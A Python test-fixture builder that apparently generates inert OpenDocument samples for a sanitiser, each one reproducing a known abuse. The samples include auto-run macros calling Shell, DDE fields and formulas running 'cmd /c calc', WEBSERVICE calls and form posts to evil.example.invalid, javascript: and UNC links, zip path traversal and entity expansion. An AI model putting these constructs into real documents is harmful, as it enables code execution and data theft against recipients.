"""Inert stand-ins for what OpenDocument files were abused for."""

# ruff: noqa: E501 - lines of XML stay whole

from __future__ import annotations

import base64
import hashlib
import zlib

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from samples.build._odf import (
    ODF,
    SPACES,
    Document,
    content_xml,
    formula_cell,
    item,
    meta_xml,
    settings_xml,
    sheet,
    string_cell,
    text,
)
from samples.build._opc import grey_png
from samples.build._zip import zip_bytes

PASSWORD = "見本2026"
_SCRIPT = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
_MODULE = '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main: Shell("EVIL.EXE"): End Sub</script:module>'


def _frame(inside: str, name: str = "枠") -> str:
    return f'<text:p><draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="3cm" svg:height="2cm">{inside}</draw:frame></text:p>'


def _image(href: str) -> str:
    return f'<draw:image xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'


def macro() -> bytes:
    """Basic library, Python script, event on loading, a field that calls a macro, a script field."""
    before = f'<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries/></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="{_SCRIPT}" xlink:type="simple"/></office:event-listeners></office:scripts>'
    body = (
        f'<text:p><text:execute-macro text:name="Main">押す文字<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="ooo:on-click" xlink:href="{_SCRIPT}"/></office:event-listeners></text:execute-macro></text:p>'
        '<text:p><text:script script:language="JavaScript">alert("EVIL")</text:script>後の文</text:p>'
    )
    document = text(body, before=before).add("Basic/Standard/Module1.xml", _MODULE).add("Basic/Standard/script-lb.xml", "<a/>")
    return document.add("Scripts/python/evil.py", b"import os  # EVIL.PY", "").build()


def events() -> bytes:
    """Clicks on shapes that run a program, a macro, a sound and a verb; the sound of a transition."""
    shapes = "".join(
        f'<draw:rect svg:width="4cm" svg:height="1cm" svg:x="1cm" svg:y="{number}cm"><office:event-listeners>{listener}</office:event-listeners><text:p>釦{number}</text:p></draw:rect>'
        for number, listener in enumerate(
            (
                '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///c:/EVIL.EXE" xlink:type="simple"/>',
                f'<script:event-listener script:language="ooo:script" script:event-name="dom:click" xlink:href="{_SCRIPT}"/>',
                '<presentation:event-listener script:event-name="dom:click" presentation:action="sound"><presentation:sound xlink:href="file:///c:/EVIL.WAV"/></presentation:event-listener>',
                '<presentation:event-listener script:event-name="dom:click" presentation:action="verb" presentation:verb="1"/>',
                '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>',
            ),
            1,
        )
    )
    automatic = '<style:style style:name="dp1" style:family="drawing-page"><style:drawing-page-properties smil:type="fade"><presentation:sound xlink:href="../EVIL.WAV" xlink:type="simple"/></style:drawing-page-properties></style:style>'
    film = '<draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="Media/film.mp4" xlink:type="simple" draw:mime-type="application/vnd.sun.star.media"/><draw:image xlink:href="Pictures/poster.png" xlink:type="simple"/></draw:frame>'
    timeline = '<anim:par><anim:audio xlink:href="Media/sound.wav"/><anim:command anim:command="verb"/></anim:par>'
    body = f'<draw:page draw:name="表紙" draw:style-name="dp1" draw:master-page-name="標準"><draw:frame svg:width="9cm" svg:height="2cm"><draw:text-box><text:p>本文は残る</text:p></draw:text-box></draw:frame>{shapes}{film}{timeline}</draw:page>'
    document = Document("presentation", content_xml("presentation", body, automatic))
    document.add("Pictures/poster.png", grey_png(), "image/png").add("Media/film.mp4", b"film of EVIL", "video/mp4")
    return document.build()


def applet() -> bytes:
    """A Java applet, a frame that shows a web page, a plug-in."""
    frames = (
        '<draw:applet draw:code="EVIL.class" draw:may-script="true" xlink:href="file:///c:/" xlink:type="simple"><draw:param draw:name="a" draw:value="b"/></draw:applet>',
        '<draw:floating-frame xlink:href="http://evil.example.invalid/frame" xlink:type="simple"/>',
        '<draw:plugin xlink:href="http://evil.example.invalid/x.swf" xlink:type="simple" draw:mime-type="application/x-shockwave-flash"/>',
    )
    return text("".join(map(_frame, frames))).build()


def accelerator() -> bytes:
    """Keys and a toolbar of the document's own that call a macro."""
    keys = f'<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item accel:code="KEY_F5" xlink:href="{_SCRIPT}"/></accel:acceleratorlist>'
    return text("").add("Configurations2/accelerator/current.xml", keys).add("Configurations2/toolbar/custom.xml", keys).build()


def dde_text() -> bytes:
    """DDE as a field and as a section."""
    body = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="EVIL" office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p>見えている<text:dde-connection text:connection-name="d">結果の文字</text:dde-connection></text:p>'
        '<text:section text:name="s"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="EVIL" office:automatic-update="true"/><text:p>節の文字</text:p></text:section>'
    )
    return text(body).build()


def formulas() -> bytes:
    """DDE, WEBSERVICE, FILTERXML, a macro called like a function, other files, links to programs."""
    rows = "".join(
        f"<table:table-row>{formula_cell(formula, str(value))}</table:table-row>"
        for value, formula in enumerate(
            (
                'of:=DDE("cmd";"/c calc";"EVIL")',
                'of:=WEBSERVICE("http://evil.example.invalid/?"&[.A1])',
                'of:=FILTERXML("<a/>";"//EVIL")',
                "of:=EVILMACRO([.A1])",
                "of:=['file:///c:/EVIL.ods'#$Sheet1.A1]",
                "of:='file:///c:/EVIL.ods'#範囲",
                "of:=INDIRECT(\"'file:///c:/EVIL.ods'#$Sheet1.A1\")",
                'of:=HYPERLINK("file:///c:/EVIL.exe";"開く")',
                "evil:=SUM([.A1])",
                "of:=SUM([.A1:.A2])",
            ),
            101,
        )
    )
    return sheet(rows).build()


def linked_sheet() -> bytes:
    """A sheet, a range and a pivot table from elsewhere; the values that a reference had."""
    before = (
        '<table:table table:name="\'file:///c:/EVIL.ods\'#表"><table:table-source xlink:href="file:///c:/EVIL.ods" xlink:type="simple" table:table-name="表"/><table:table-row><table:table-cell/></table:table-row></table:table>'
        f'<table:table table:name="取込"><table:table-source xlink:href="http://evil.example.invalid/a.csv" xlink:type="simple" table:refresh-delay="PT1S"/><table:table-row>{string_cell("取り込んだ値")}</table:table-row></table:table>'
    )
    row = '<table:table-row><table:table-cell office:value-type="string"><table:cell-range-source table:name="r" xlink:href="http://evil.example.invalid/b.csv" xlink:type="simple" table:last-column-spanned="1" table:last-row-spanned="1"/><text:p>範囲の値</text:p></table:table-cell></table:table-row>'
    after = (
        '<table:named-expressions><table:named-range table:name="外" table:cell-range-address="\'file:///c:/EVIL.ods\'#$表.$A$1"/><table:named-expression table:name="式" table:expression="DDE(&quot;cmd&quot;;&quot;/c EVIL&quot;;&quot;x&quot;)"/></table:named-expressions>'
        '<table:database-ranges><table:database-range table:name="db" table:target-range-address="集計.A1:集計.B2"><table:database-source-sql table:database-name="EVIL" table:sql-statement="SELECT EVIL"/></table:database-range></table:database-ranges>'
        '<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="集計.D1:集計.E2"><table:database-source-table table:database-name="EVIL" table:database-table-name="t"/></table:data-pilot-table><table:data-pilot-table table:name="q" table:target-range-address="集計.D9:集計.E9"><table:source-service table:name="evil.Service" table:source-name="EVIL" table:object-name="x"/></table:data-pilot-table></table:data-pilot-tables>'
        "<table:dde-links><table:table-row/></table:dde-links>"
    )
    return sheet(row, after, before).build()


def external_text() -> bytes:
    """A section, a picture, a template and a page that is loaded again, all from elsewhere."""
    body = (
        '<text:section text:name="s"><text:section-source xlink:href="file:///c:/EVIL.odt" xlink:type="simple" text:filter-name="writer8"/><text:p>取り込まれた文</text:p></text:section>'
        + _frame(_image("http://evil.example.invalid/track.png"))
        + _frame(_image("../../EVIL.png"))
    )
    document = text(body)
    document.meta = meta_xml(
        "外部",
        '<meta:template xlink:href="http://evil.example.invalid/evil.ott" xlink:type="simple"/><meta:auto-reload xlink:href="http://evil.example.invalid/reload" meta:delay="PT1S"/>',
    )
    return document.build()


def sending_form() -> bytes:
    """A form that sends, reads a database and names a service of its own."""
    form = (
        '<office:forms><form:form form:name="f" xlink:href="http://evil.example.invalid/post" form:method="post" form:datasource="EVILDB" form:command="SELECT EVIL" form:control-implementation="ooo:com.sun.star.form.component.Form">'
        '<form:text form:name="名" form:data-field="EVILFIELD" form:control-implementation="ooo:com.sun.star.form.component.TextField" xml:id="c1" form:id="c1"/>'
        '<form:button form:name="送る" form:label="送信" form:button-type="submit" xlink:href="http://evil.example.invalid/b" form:control-implementation="ooo:com.sun.star.form.component.CommandButton" xml:id="c2" form:id="c2"><form:properties><form:property form:property-name="TargetURL" office:value-type="string" office:string-value="http://evil.example.invalid/t"/></form:properties>'
        f'<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="form:performaction" xlink:href="{_SCRIPT}"/></office:event-listeners></form:button>'
        '<form:generic-control form:name="g" form:control-implementation="ooo:evil.example.Service" xml:id="c3" form:id="c3"/></form:form></office:forms>'
    )
    body = f'{form}<text:p><text:database-display text:column-name="c" text:table-name="EVILTABLE" text:database-name="EVILDB">差込の値</text:database-display></text:p>'
    return text(body).build()


def objects() -> bytes:
    """An OLE object and a broken embedded document, which leave their pictures; an object nobody names, one that is missing."""
    ole = '<draw:object-ole xlink:href="./Object 1" xlink:type="simple" draw:class-id="0003000c-0000-0000-c000-000000000046"/>'
    broken = '<draw:object xlink:href="./Object 2" xlink:type="simple"/>'
    missing = '<draw:object xlink:href="./Object 9" xlink:type="simple"/>'
    binary = '<draw:object xlink:href="./Object 3" xlink:type="simple"/>'
    picture = _image("./ObjectReplacements/Object 1")
    document = text("".join(_frame(inside + picture) for inside in (ole, broken, missing, binary)))
    document.add("Object 1", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 OLE of EVIL", "application/octet-stream")
    document.add("Object 3", b"PK EVIL package", "application/octet-stream")
    document.embed("Object 2", "chart", content_xml("text", "<text:p>EVIL inside</text:p>"))
    document.add("ObjectReplacements/Object 1", grey_png(), "image/png").add("Pictures/stray.png", b"stray EVIL", "image/png")
    return document.build()


def pictures() -> bytes:
    """An EMF, an SVM, a picture that is none, a missing one, and one in Base64 that is none."""
    inline = f"<draw:image><office:binary-data>{base64.b64encode(b'EVIL inline').decode()}</office:binary-data></draw:image>"
    names = ("Pictures/a.emf", "Pictures/b.svm", "Pictures/c.png", "Pictures/missing.png")
    document = text("".join(_frame(_image(name)) for name in names) + _frame(inline))
    document.add("Pictures/a.emf", b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(40), "image/x-emf")
    document.add("Pictures/b.svm", b"VCLMTF EVIL", "").add("Pictures/c.png", b"this is no picture, EVIL", "image/png")
    return document.build()


def carried() -> bytes:
    """Thumbnail, font, RDF, printer, other settings, properties, signature, a part of an unknown kind."""
    configuration = (
        item("PrinterName", "string", "EVIL-PRINTER")
        + item("PrinterSetup", "base64Binary", base64.b64encode(b"DEVMODE EVIL").decode())
        + item("ColorTableURL", "string", "$(user)/EVIL.soc")
        + item("CurrentDatabaseDataSource", "string", "EVILDB")
    )
    document = text("")
    document.meta = meta_xml("書類", '<meta:user-defined meta:name="EVIL">EVIL value</meta:user-defined>')
    document.settings = settings_xml("", configuration)
    face = '<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/f.ttf" xlink:type="simple"/></svg:font-face-src></style:font-face></office:font-face-decls>'
    document.content = document.content.replace("<office:automatic-styles>", f"{face}<office:automatic-styles>", 1)
    document.add("Thumbnails/thumbnail.png", grey_png(), "image/png").add("Fonts/f.ttf", b"font program EVIL", "")
    document.add(
        "manifest.rdf",
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="http://evil.example.invalid/"/></rdf:RDF>',
    )
    document.add(
        "META-INF/documentsignatures.xml",
        '<document-signatures xmlns="urn:oasis:names:tc:opendocument:xmlns:digitalsignature:1.0">xmldsig EVIL</document-signatures>',
    )
    return document.add("odd/part.bin", b"odd EVIL", "application/octet-stream").build()


def links() -> bytes:
    """file:, UNC, javascript:, macro and .uno links beside a kept one; a link on a picture."""
    addresses = (
        "https://www.city.example.invalid/",
        "file:///c:/EVIL.exe",
        r"\\192.0.2.7\EVIL",
        "javascript:alert(1)",
        _SCRIPT,
        ".uno:EVIL",
        "../EVIL.odt",
        "#別紙",
    )
    body = "".join(
        f'<text:p><text:a xlink:type="simple" xlink:href="{address}">リンク{number}</text:a>後{number}</text:p>'
        for number, address in enumerate(addresses)
    )
    shape = f'<text:p><draw:a xlink:type="simple" xlink:href="file:///c:/EVIL.lnk"><draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">{_image("Pictures/a.png")}</draw:frame></draw:a></text:p>'
    return text(body + shape).add("Pictures/a.png", grey_png(), "image/png").build()


def unknown_names() -> bytes:
    """Names of nobody's namespace, in and outside of paragraphs."""
    body = (
        '<evil:box xmlns:evil="http://evil.example.invalid/ns"><text:p>EVIL outside</text:p></evil:box>'
        '<text:p xmlns:evil="http://evil.example.invalid/ns" evil:onload="alert(1)">前<evil:run>中の文</evil:run>後</text:p>'
    )
    return text(body).build()


def irregular_zip() -> bytes:
    """A path that leads out, and bytes behind the end."""
    members = text("").members()
    return zip_bytes({**members, "../EVIL.txt": b"leads out"}) + b"after the end"


def document_type() -> bytes:
    """Entities that grow."""
    document = text("")
    document.content = '<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;&x;">]>' + document.content.replace(
        "本文は残る", "&y;"
    )
    return document.build()


def bare_doctype() -> bytes:
    """A document type that declares nothing, as OpenOffice.org 2 wrote it."""
    document = text("")
    document.content = (
        '<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd">' + document.content
    )
    return document.build()


def wrong_body() -> bytes:
    """A spreadsheet under the media type of a text."""
    return Document("text", content_xml("spreadsheet", '<table:table table:name="a"/>')).build()


def encrypted() -> bytes:
    """A document with a password (AES-256 CBC, PBKDF2), the same bytes each time."""
    plain = text("").members()
    members: dict[str, bytes] = {"mimetype": plain["mimetype"]}
    entries = []
    for number, name in enumerate(("content.xml", "styles.xml"), 1):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(plain[name]) + packer.flush()
        vector, salt = bytes([number]) * 16, bytes([number + 16]) * 16
        key = hashlib.pbkdf2_hmac("sha1", hashlib.sha256(PASSWORD.encode()).digest(), salt, 1024, 32)
        pad = padding.PKCS7(128).padder()
        encryptor = Cipher(algorithms.AES(key), modes.CBC(vector)).encryptor()
        members[name] = encryptor.update(pad.update(packed) + pad.finalize()) + encryptor.finalize()
        checksum = hashlib.sha256(packed[:1024]).digest()
        entries.append(
            f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml" manifest:size="{len(plain[name])}"><manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="{_b64(checksum)}">'
            f'<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="{_b64(vector)}"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="1024" manifest:salt="{_b64(salt)}"/>'
            '<manifest:start-key-generation manifest:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256" manifest:key-size="32"/></manifest:encryption-data></manifest:file-entry>'
        )
    members["META-INF/manifest.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="{ODF}text"/>{"".join(entries)}</manifest:manifest>'
    ).encode()
    return zip_bytes(members, stored=("mimetype", "content.xml", "styles.xml"))


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def flat_macro() -> bytes:
    """A flat document with a macro and an OLE object inside."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document {SPACES} office:mimetype="{ODF}text">'
        f'<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub EVIL</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts>'
        f"<office:body><office:text><text:p>本文は残る</text:p>{_frame('<draw:object-ole><office:binary-data>RVZJTA==</office:binary-data></draw:object-ole>')}</office:text></office:body></office:document>"
    ).encode()


def cut() -> bytes:
    """A document whose content ends in the middle."""
    members = text("").members()
    content = members["content.xml"]
    return zip_bytes({**members, "content.xml": content[: content.index(b"</office:text>")]})
